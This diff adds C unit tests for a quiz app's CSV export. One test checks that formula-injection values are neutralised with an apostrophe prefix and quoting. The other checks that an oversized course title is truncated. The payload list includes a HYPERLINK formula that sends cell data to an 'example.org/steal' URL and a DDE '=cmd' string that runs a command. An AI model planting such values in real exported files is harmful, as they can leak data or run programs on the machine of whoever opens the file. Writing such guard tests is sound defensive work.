@@ -159,6 +159,134 @@ test_export_command (void)
   g_assert_nonnull (strstr (text, "--export-progress"));
 }
 
+static const char *const formula_payloads[] = {
+  "=HYPERLINK(\"https://example.org/steal?\"&A1,\"Hier klicken\")",
+  "+1+1",
+  "-2+3",
+  "@SUM(A1)",
+  "\t=1",
+  "\r=1",
+  "=cmd|' /C calc'!A0",
+};
+
+/* Titles, names and answers a spreadsheet would run as formulas are
+ * written as text; numbers stay numbers, a negative one too. */
+static void
+test_export_formulas (void)
+{
+  g_autofree char *path = data_path ("formulas.db");
+  g_autofree char *csv = data_path ("formulas.csv");
+  g_autofree char *text = NULL;
+  g_autoptr(AkProgressStore) store = open_store (path);
+  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1,
+                                                         G_N_ELEMENTS (formula_payloads));
+  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
+  g_autoptr(GFile) file = g_file_new_for_path (csv);
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autoptr(GError) error = NULL;
+  AkQuiz *quiz = quiz_at (course, 0);
+  gint64 id;
+
+  g_free (course->title);
+  course->title = g_strdup (formula_payloads[0]);
+  g_free (quiz->title);
+  quiz->title = g_strdup (formula_payloads[1]);
+  g_list_store_append (courses, course);
+  ak_progress_store_set_display_name (store, formula_payloads[3], &error);
+  g_assert_no_error (error);
+
+  id = ak_progress_store_start_attempt (store, "kurs", quiz->id, "1.0", quiz->hash, NULL, &error);
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (formula_payloads); i++)
+    {
+      AkQuestion *question = question_at (quiz, i);
+
+      progress_test_question_set_prompt (question, formula_payloads[i]);
+      ak_progress_store_record_answer (store, id, question->id, question->hash,
+                                       formula_payloads[i], 0.5, 3, i + 1, &error);
+      g_assert_no_error (error);
+    }
+  g_clear_object (&store);
+  /* Only a damaged database holds a negative time; it stays a number. */
+  g_assert_cmpint (progress_test_query_int (path, "UPDATE answer SET seconds = -2.5 WHERE id = 1"
+                                                  " RETURNING 0"), ==, 0);
+  store = open_store (path);
+
+  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
+  g_assert_no_error (error);
+  rows = read_csv (csv);
+  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (formula_payloads));
+  for (guint i = 0; i < G_N_ELEMENTS (formula_payloads); i++)
+    {
+      g_autofree char *guarded = g_strconcat ("'", formula_payloads[i], NULL);
+      char **fields = g_ptr_array_index (rows, i + 1);
+
+      g_assert_cmpstr (field (rows, i + 1, "question_title"), ==, guarded);
+      g_assert_cmpstr (field (rows, i + 1, "response"), ==, guarded);
+      g_assert_cmpstr (field (rows, i + 1, "answer_score"), ==, "0.5");
+      for (guint j = 0; fields[j] != NULL; j++)
+        if (fields[j][0] != '\0' && !g_str_equal (fields[j], "-2.5"))
+          g_assert_null (strchr ("=+-@\t\r", fields[j][0]));
+    }
+  g_assert_cmpstr (field (rows, 1, "course_title"),
+                   ==, "'=HYPERLINK(\"https://example.org/steal?\"&A1,\"Hier klicken\")");
+  g_assert_cmpstr (field (rows, 1, "quiz_title"), ==, "'+1+1");
+  g_assert_cmpstr (field (rows, 1, "learner"), ==, "'@SUM(A1)");
+  g_assert_cmpstr (field (rows, 1, "answer_seconds"), ==, "-2.5");
+
+  /* In the file, every guarded cell is quoted as well; the number is not. */
+  g_assert_true (g_file_get_contents (csv, &text, NULL, NULL));
+  g_assert_nonnull (strstr (text, ",\"'+1+1\","));
+  g_assert_nonnull (strstr (text, ",\"'\t=1\","));
+  g_assert_nonnull (strstr (text, ",\"'\r=1\","));
+  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0\","));
+  g_assert_nonnull (strstr (text, ",-2.5\r\n"));
+}
+
+/* A course title of megabytes is repeated on every row: it is cut. */
+static void
+test_export_long_title (void)
+{
+  g_autofree char *path = data_path ("long.db");
+  g_autofree char *csv = data_path ("long.csv");
+  g_autoptr(AkProgressStore) store = open_store (path);
+  g_autoptr(AkCourse) course = progress_test_course_new ("kurs", 1, 1, 60);
+  g_autoptr(GListStore) courses = g_list_store_new (AK_TYPE_COURSE);
+  g_autoptr(GFile) file = g_file_new_for_path (csv);
+  g_autoptr(GPtrArray) rows = NULL;
+  g_autoptr(GError) error = NULL;
+  GString *long_title = g_string_sized_new (7 * 1024 * 1024 + 8);
+  double scores[60];
+  const char *title;
+  GStatBuf info;
+
+  /* 7 MB: "x", then "ä" (two bytes each), so that a cut in the middle of
+   * a character would show. */
+  g_string_append_c (long_title, 'x');
+  while (long_title->len < 7 * 1024 * 1024)
+    g_string_append (long_title, "ä");
+  g_free (course->title);
+  course->title = g_string_free (long_title, FALSE);
+  g_list_store_append (courses, course);
+  for (guint i = 0; i < G_N_ELEMENTS (scores); i++)
+    scores[i] = 1;
+  take_quiz (store, course, quiz_at (course, 0), scores, TRUE);
+
+  ak_progress_store_export_csv (store, G_LIST_MODEL (courses), file, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (g_stat (csv, &info), ==, 0);
+  g_test_message ("CSV with a 7 MB title and 60 answers: %" G_GINT64_FORMAT " bytes",
+                  (gint64)info.st_size);
+  g_assert_cmpint (info.st_size, <, 60 * 4 * 1024);
+
+  rows = read_csv (csv);
+  g_assert_cmpuint (rows->len, ==, 61);
+  title = field (rows, 1, "course_title");
+  g_assert_cmpint (g_utf8_strlen (title, -1), ==, 1000);
+  g_assert_true (g_str_has_prefix (title, "xää"));
+  g_assert_true (g_str_has_suffix (title, "ää…"));
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -167,6 +295,8 @@ main (int   argc,
 
   g_test_add_func ("/progress/export/csv", test_export_csv);
   g_test_add_func ("/progress/export/command", test_export_command);
+  g_test_add_func ("/progress/export/formulas", test_export_formulas);
+  g_test_add_func ("/progress/export/long-title", test_export_long_title);
 
   return g_test_run ();
 }
